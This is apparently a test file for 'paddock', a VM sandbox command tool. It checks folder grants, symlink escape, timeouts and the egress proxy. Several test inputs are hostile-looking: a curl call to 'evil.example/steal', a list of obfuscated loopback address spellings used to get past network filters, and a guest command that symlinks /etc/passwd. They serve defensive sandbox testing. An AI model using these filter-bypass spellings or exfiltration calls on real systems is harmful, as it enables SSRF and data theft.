import Database from 'better-sqlite3';
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paddock, paddockAsync, repoRoot } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp-dir.js';
import { ensureTestImage, vmTestHome } from '../helpers/vm-image.js';

/** `paddock exec` as a person runs it, against the shared test data folder. */
/** The same without blocking this process, for tests whose own server must answer the guest. */
const pexecAsync = (args: string[]) =>
  paddockAsync(['exec', ...args], { PADDOCK_HOME: vmTestHome });
const pexec = (args: string[], input?: string) =>
  paddock(['exec', ...args], { PADDOCK_HOME: vmTestHome }, input);

describe('paddock exec (real VM)', () => {
  let t: { dir: string; cleanup(): void };
  beforeAll(async () => {
    await ensureTestImage();
    t = tempDir();
  });
  afterAll(() => t?.cleanup());

  it('doctor reports the accelerator it probed and the image version', async () => {
    const image = await ensureTestImage();
    const r = paddock(['doctor', '--json'], { PADDOCK_HOME: vmTestHome });
    const { checks } = JSON.parse(r.stdout) as {
      checks: { id: string; status: string; detail: string; fix?: string }[];
    };
    const accel = checks.find((c) => c.id === 'accel')!;
    // KVM cannot boot a guest on these build machines (nested PVM), so the probe must say TCG.
    expect(accel.detail).toMatch(
      fs.existsSync('/dev/kvm') && accel.status === 'ok' ? /KVM works/ : /Using QEMU TCG/,
    );
    expect(checks.find((c) => c.id === 'image')).toMatchObject({
      status: 'ok',
      detail: expect.stringContaining(image.version),
    });
  });

  it('prints the guest kernel line for uname -a', () => {
    const r = pexec(['--', 'uname', '-a']);
    expect(r.stderr).toBe('');
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^Linux \S+ \d+\.\d+\.\d+-\S+ .* GNU\/Linux\n$/);
    // It is the guest's kernel (Debian's amd64 build), not necessarily the host's.
    expect(r.stdout).toMatch(/-amd64 /);
  });

  it('returns the command exit code', () => {
    {
      const r = pexec(['--', 'sh', '-c', 'exit 7']);
      expect(r.status, r.stderr).toBe(7);
    }
  });

  it('streams 10 MB of random bytes byte for byte', () => {
    const dir = path.join(t.dir, 'bytes');
    fs.mkdirSync(dir);
    const r = paddock(
      ['exec', '--folder', dir, '--', 'sh', '-c', 'head -c 10485760 /dev/urandom | tee out.bin'],
      { PADDOCK_HOME: vmTestHome },
    );
    expect(r.status, r.stderr).toBe(0);
    // spawnSync decoded as utf8 would mangle bytes: re-run through a Buffer-returning path.
    const written = fs.readFileSync(path.join(dir, 'out.bin'));
    expect(written.length).toBe(10 * 1024 * 1024);
    const raw = spawnBuffer(['exec', '--folder', `${dir}:ro`, '--', 'cat', 'out.bin']);
    expect(raw.code).toBe(0);
    expect(raw.stdout.length).toBe(written.length);
    expect(crypto.createHash('sha256').update(raw.stdout).digest('hex')).toBe(
      crypto.createHash('sha256').update(written).digest('hex'),
    );
  });

  it('writes through a read-write grant and refuses writes to a read-only one', () => {
    const rw = path.join(t.dir, 'rw');
    const ro = path.join(t.dir, 'ro');
    fs.mkdirSync(rw);
    fs.mkdirSync(ro);
    fs.writeFileSync(path.join(ro, 'keep.txt'), 'original\n');
    const r = pexec([
      '--folder',
      rw,
      '--folder',
      `${ro}:ro`,
      '--',
      'sh',
      '-c',
      'pwd; echo made-in-vm > /mnt/rw/new.txt; echo tampered > /mnt/ro/keep.txt; echo "ro=$?"; rm -f /mnt/ro/keep.txt; touch /mnt/ro/new; ls /mnt',
    ]);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^\/mnt\/rw\n/);
    expect(r.stdout).toMatch(/ro=[1-9]/);
    expect(r.stderr).toMatch(/Read-only file system/);
    expect(fs.readFileSync(path.join(rw, 'new.txt'), 'utf8')).toBe('made-in-vm\n');
    expect(fs.readFileSync(path.join(ro, 'keep.txt'), 'utf8')).toBe('original\n');
    expect(fs.readdirSync(ro)).toEqual(['keep.txt']);
  });

  it('does not let a symlink in a grant reveal a host file outside it', () => {
    const share = path.join(t.dir, 'linky');
    const secretDir = path.join(t.dir, 'secret');
    fs.mkdirSync(share);
    fs.mkdirSync(secretDir);
    const secret = `host-secret-${crypto.randomBytes(8).toString('hex')}`;
    fs.writeFileSync(path.join(secretDir, 'secret.txt'), secret);
    fs.symlinkSync(path.join(secretDir, 'secret.txt'), path.join(share, 'abs-link'));
    fs.symlinkSync('../secret/secret.txt', path.join(share, 'rel-link'));
    fs.symlinkSync('/etc/hostname', path.join(share, 'etc-link'));
    const r = pexec([
      '--folder',
      share,
      '--',
      'sh',
      '-c',
      'cat abs-link rel-link etc-link 2>&1; ln -s /etc/passwd made-link; ls -la',
    ]);
    expect(r.stdout + r.stderr).not.toContain(secret);
    // A link the guest makes never becomes a host symlink to a host file.
    const made = path.join(share, 'made-link');
    const st = fs.lstatSync(made, { throwIfNoEntry: false });
    if (st) {
      expect(st.isSymbolicLink()).toBe(false);
      expect(fs.readFileSync(made, 'utf8')).not.toContain('root:x:0:0');
    }
  });

  it('ends a command at --timeout with exit code 124', () => {
    const r = pexec(['--timeout', '2', '--', 'sleep', '60']);
    expect(r.status, r.stderr).toBe(124);
  });

  it('refuses bad grants and bad allowlist entries with a sentence, before booting', () => {
    const a = pexec(['--folder', '/etc', '--', 'true']);
    expect(a.status).toBe(1);
    expect(a.stderr).toMatch(/will not share \/etc: it is a system folder/);
    const b = pexec(['--allow-host', 'http://x/y', '--', 'true']);
    expect(b.status).toBe(1);
    expect(b.stderr).toMatch(/paddock: .+/);
  });
});

describe('the egress boundary from inside the VM', () => {
  let server: http.Server;
  let other: http.Server;
  let port: number;
  let otherPort: number;
  let hits = 0;

  beforeAll(async () => {
    await ensureTestImage();
    server = http.createServer((_req, res) => {
      hits++;
      res.end('host-loopback-secret\n');
    });
    other = http.createServer((_req, res) => res.end('other-port\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
    otherPort = (other.address() as AddressInfo).port;
  });
  afterAll(() => {
    server?.close();
    other?.close();
  });

  const spellings = (p: number) => [
    `127.0.0.1:${p}`,
    `127.1:${p}`,
    `0x7f.0.0.1:${p}`,
    `0x7f000001:${p}`,
    `2130706433:${p}`,
    `0177.0.0.1:${p}`,
    `017700000001:${p}`,
    `[::1]:${p}`,
    `[::ffff:127.0.0.1]:${p}`,
    `[::ffff:7f00:1]:${p}`,
    `localhost:${p}`,
  ];

  /** One shell script: each spelling through the guest's proxy, plain HTTP and CONNECT. */
  const script = (targets: string[]) =>
    targets
      .map(
        (h) =>
          `echo "GET ${h} $(curl -s -o /dev/null -w '%{http_code}' --noproxy '' --max-time 20 http://${h}/)"; ` +
          `echo "CONNECT ${h} $(curl -s -o /dev/null -w '%{http_code}' --noproxy '' --max-time 20 -p http://${h}/)"`,
      )
      .join('; ');

  function egressLog(): { host: string; port: number; allowed: number; method: string }[] {
    const db = new Database(path.join(vmTestHome, 'paddock.db'), { readonly: true });
    try {
      return db
        .prepare('SELECT host, port, allowed, method FROM egress_log ORDER BY id')
        .all() as never;
    } finally {
      db.close();
    }
  }

  it('refuses the host loopback by every spelling without --allow-host, and logs each refusal', async () => {
    const before = egressLog().length;
    hits = 0;
    const r = await pexecAsync(['--', 'sh', '-c', script(spellings(port))]);
    expect(r.status, r.stderr).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(spellings(port).length * 2);
    for (const line of lines) {
      if (line.startsWith('GET')) expect(line).toMatch(/ 403$/);
      else expect(line).not.toMatch(/ 200$/); // CONNECT refused: curl reports the 403 as 000 or 403
    }
    expect(hits).toBe(0);
    const logged = egressLog().slice(before);
    expect(logged.length).toBeGreaterThanOrEqual(lines.length);
    expect(logged.every((d) => d.allowed === 0)).toBe(true);
  });

  it('allows exactly 127.0.0.1:PORT with --allow-host, and only that port', async () => {
    const before = egressLog().length;
    hits = 0;
    const r = await pexecAsync([
      '--allow-host',
      `127.0.0.1:${port}`,
      '--',
      'sh',
      '-c',
      `curl -s --noproxy '' http://127.0.0.1:${port}/; curl -s --noproxy '' http://127.1:${port}/; ` +
        `echo "other $(curl -s -o /dev/null -w '%{http_code}' --noproxy '' http://127.0.0.1:${otherPort}/)"`,
    ]);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toBe(`host-loopback-secret\nhost-loopback-secret\nother 403\n`);
    expect(hits).toBe(2);
    const logged = egressLog().slice(before);
    expect(logged.map((d) => [d.port, d.allowed])).toEqual([
      [port, 1],
      [port, 1],
      [otherPort, 0],
    ]);
  });

  it('tells the command how to allow a refused host', async () => {
    const r = await pexecAsync([
      '--',
      'sh',
      '-c',
      `curl -s --noproxy '' http://evil.example/steal`,
    ]);
    expect(r.stdout).toMatch(
      /Paddock blocked a connection to evil\.example:80.*--allow-host evil\.example/s,
    );
  });
});

/** Runs the CLI and keeps stdout as raw bytes. */
function spawnBuffer(args: string[]): { code: number; stdout: Buffer } {
  const r = spawnSync(
    process.execPath,
    ['--import', 'tsx', path.join(repoRoot, 'src/main/cli/entry.ts'), ...args],
    {
      cwd: repoRoot,
      env: { ...process.env, PADDOCK_HOME: vmTestHome },
      maxBuffer: 64 * 1024 * 1024,
      timeout: 120_000,
    },
  );
  return { code: r.status ?? -1, stdout: r.stdout };
}
